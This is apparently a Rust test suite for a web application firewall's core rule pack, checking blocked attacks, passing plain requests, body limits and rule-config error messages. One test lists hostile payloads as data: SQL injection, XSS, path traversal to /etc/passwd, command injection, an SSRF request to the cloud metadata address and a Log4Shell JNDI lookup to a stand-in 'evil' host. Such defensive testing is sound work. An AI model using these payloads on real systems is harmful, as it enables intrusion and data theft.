//! The compiled-in pack: attacks are stopped, plain requests pass.

use std::sync::Arc;

use ostiary_waf::{
    CORE, NoFiles, Outcome, Plan, RequestHead, RuleSet, Settings, Source, Transaction,
};

fn core() -> Arc<Plan> {
    let rules = RuleSet::parse(&[Source::new("core.conf", CORE)], &NoFiles)
        .expect("the core pack is sound");
    Plan::compile(&rules, Settings::default()).expect("the core pack compiles")
}

fn ask(plan: &Arc<Plan>, method: &str, uri: &str, kind: &str, body: &str) -> Outcome {
    let headers: [(&[u8], &[u8]); 3] = [
        (b"host", b"notes.example"),
        (b"user-agent", b"Mozilla/5.0 (X11; Linux) Firefox/140"),
        (b"content-type", kind.as_bytes()),
    ];
    let mut transaction = Transaction::new(plan);
    let head = RequestHead {
        method: method.as_bytes(),
        uri: uri.as_bytes(),
        protocol: b"HTTP/1.1",
        headers: &headers,
        remote: "192.0.2.7",
        id: "test",
    };
    transaction.request_head(&head);
    transaction.request_body(body.as_bytes());
    transaction.verdict()
}

const FORM: &str = "application/x-www-form-urlencoded";

#[test]
fn attacks_are_stopped() {
    let plan = core();
    for uri in [
        "/?q=1%20UNION%20SELECT%20password%20FROM%20users",
        "/?q=1'%20or%20'1'='1",
        "/?q=<script>alert(1)</script>",
        "/?f=../../etc/passwd",
        "/?f=..%c0%af..%c0%afsecret",
        "/?f=..%u2216..%u2216boot",
        "/?c=;cat%20/etc/hostname",
        "/?u=http://169.254.169.254/latest/meta-data/",
        "/?x=${jndi:ldap://evil/a}",
        "/?x=a%00b",
    ] {
        let outcome = ask(&plan, "GET", uri, "text/plain", "");
        assert!(
            outcome.interrupted && outcome.status == 403,
            "{uri}: {outcome:?}"
        );
    }
    let json = ask(
        &plan,
        "POST",
        "/",
        "application/json",
        r#"{"a":[{"b":"<script>alert(1)</script>"}]}"#,
    );
    assert!(
        json.matches
            .iter()
            .any(|found| found.place == "ARGS:json.a.array_0.b"),
        "{json:?}"
    );
    assert!(ask(&plan, "POST", "/", FORM, "a=x&b=1+union+select+2").interrupted);
}

#[test]
fn plain_requests_pass() {
    let plan = core();
    for (uri, kind, body) in [
        ("/notes?page=2&sort=-date", FORM, ""),
        (
            "/notes",
            FORM,
            "title=Union+meeting&text=Select+a+date%3B+we+can+meet+at+O%27Brien%27s",
        ),
        (
            "/notes",
            "application/json",
            r#"{"text":"Caf\u00e9 & cake: 3 < 5, ok?","tags":["a","b"]}"#,
        ),
        ("/suche?q=%C3%BCber+uns", FORM, ""),
    ] {
        let outcome = ask(&plan, "POST", uri, kind, body);
        assert!(!outcome.interrupted, "{uri} {body}: {outcome:?}");
    }
}

#[test]
fn broken_and_long_bodies_are_refused() {
    let plan = core();
    assert_eq!(
        ask(&plan, "POST", "/", "application/json", "{\"a\":").status,
        400
    );
    let long = "a".repeat(plan.body_limit());
    assert!(!ask(&plan, "POST", "/", FORM, &long).interrupted);
    assert_eq!(
        ask(&plan, "POST", "/", FORM, &format!("{long}a")).status,
        413
    );
}

#[test]
fn numbers_that_are_missing_or_there_twice_are_all_told() {
    let text = "SecAction \"id:1,pass\"\nSecAction \"pass\"\nSecAction \"id:1,pass\"\n";
    let own = Source::new("own.conf", text);
    let again = Source::new("own.conf", "SecAction \"id:1,pass\"\n");
    let rules = RuleSet::parse(&[own, again], &NoFiles).expect("each line is sound");
    let faults = Plan::compile(&rules, Settings::default()).expect_err("three faults");
    let lines: Vec<String> = faults.iter().map(ToString::to_string).collect();
    assert_eq!(
        lines,
        [
            "own.conf:2: a rule without id",
            "own.conf:3: rule 1 is there twice: also at own.conf:1",
            "own.conf:1: rule 1 is there twice: its file is read twice, by its folder or an Include",
        ]
    );
}

#[test]
fn faults_name_their_place() {
    let text = "# rules\nSecRule ARGS \"@rx a\" \\\n \"id:1\"\nSecNonsense on\nSecRule NOPE \"a\" \"id:2\"\n";
    let faults =
        RuleSet::parse(&[Source::new("own.conf", text)], &NoFiles).expect_err("two faults");
    let lines: Vec<String> = faults.iter().map(ToString::to_string).collect();
    assert_eq!(
        lines,
        [
            "own.conf:4: unknown directive SecNonsense",
            "own.conf:5: unknown variable NOPE"
        ]
    );
}

#[test]
fn what_servers_configure_beside_rules_is_read() {
    let text = r#"SecArgumentSeparator &
SecParseXmlIntoArgs Off
SecAuditLogPrefix x
SecRule MULTIPART_STRICT_ERROR "!@eq 0" "id:1,phase:2,deny,msg:'PE %{REQBODY_PROCESSOR_ERROR}, LF %{MULTIPART_LF_LINE}'"
SecRule MULTIPART_BOUNDARY_QUOTED|REQBODY_PROCESSOR_ERROR "!@eq 0" "id:2,phase:2,deny"
"#;
    RuleSet::parse(&[Source::new("own.conf", text)], &NoFiles).expect("sound");
    let other = "SecArgumentSeparator ;\nSecParseXmlIntoArgs On\n";
    let faults = RuleSet::parse(&[Source::new("own.conf", other)], &NoFiles).expect_err("two");
    let lines: Vec<String> = faults.iter().map(ToString::to_string).collect();
    assert_eq!(
        lines,
        [
            "own.conf:1: forms are read with & between arguments",
            "own.conf:2: XML makes no arguments here: write XML:/* beside ARGS",
        ]
    );
}
